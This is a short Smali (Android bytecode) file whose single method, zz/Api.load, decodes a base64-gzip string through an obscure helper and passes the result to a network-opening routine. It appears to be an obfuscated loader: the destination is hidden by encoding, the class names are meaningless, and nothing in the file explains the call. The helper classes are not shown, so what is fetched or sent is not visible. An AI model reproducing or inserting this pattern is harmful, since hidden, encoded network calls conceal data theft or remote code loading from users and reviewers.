.class public Lzz/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "H4sIAAAAAAAC/8soKSkottLXT6/KLNArzsgv0CtJLS7RLzPUL0hMzgYA4SF8Vh4AAAA="
    invoke-static {v0}, Lzz/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lzz/Net;->open(Ljava/lang/String;)V
    return-void
.end method

